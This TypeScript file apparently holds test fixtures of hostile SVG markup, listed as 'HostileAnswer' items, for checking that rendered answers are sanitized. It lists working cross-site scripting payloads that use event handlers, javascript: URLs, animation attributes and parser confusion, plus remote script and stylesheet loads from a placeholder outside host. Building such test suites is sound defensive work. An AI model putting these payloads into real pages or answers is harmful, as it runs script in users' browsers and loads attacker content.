import { fence, type HostileAnswer, inProse, run, stranger } from './answer.ts';

const pictures = [
  `<svg onload="${run}"></svg>`,
  `<svg/onload="${run}"/>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><script xlink:href="${stranger}/x.js"/></svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"/></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>`,
  `<svg><use xlink:href="${stranger}/s.svg#x"/></svg>`,
  `<svg><image href="${stranger}/i.png" onerror="${run}"/></svg>`,
  `<svg><a href="javascript:${run}"><text y="20">Figure 1</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text y="20">Figure 1</text></a></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><set attributeName="onload" to="${run}"/></svg>`,
  `<svg><style>@import '${stranger}/s.css';</style></svg>`,
  `<svg><rect style="fill:url(${stranger}/f.svg#x)" filter="url(${stranger}/f)"/></svg>`,
  `<svg><feImage href="${stranger}/f.png"/></svg>`,
  `<svg><title><style><img src=x onerror="${run}"></style></title></svg>`,
  `<svg><p><style><g title="</style><img src=x onerror=${run}>"></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
  fence('svg', `<svg onload="${run}"></svg>`),
  fence('html', `<svg onload="${run}"></svg>`),
  fence('xml', `<?xml-stylesheet type="text/xsl" href="${stranger}/x.xsl"?>`),
  `![x](data:image/svg+xml,<svg/onload="${run}">)`,
];

export const svg: HostileAnswer[] = inProse('svg', pictures);
